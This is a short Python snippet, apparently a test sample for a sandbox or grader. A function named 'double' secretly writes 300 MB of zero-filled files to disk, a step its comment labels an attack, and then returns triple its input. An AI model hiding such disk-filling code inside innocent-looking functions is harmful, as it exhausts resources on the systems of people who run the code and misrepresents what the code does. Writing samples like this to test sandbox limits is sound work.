# attack: files of 300 MB in all
def double(x):
    block = bytes(1 << 20)
    written = 0
    for number in range(6):
        try:
            with open(f"large{number}", "wb", buffering=0) as file:
                for _ in range(50):
                    written += file.write(block)
        except OSError as error:
            print(error)
    print(written >> 20)
    return 3 * x
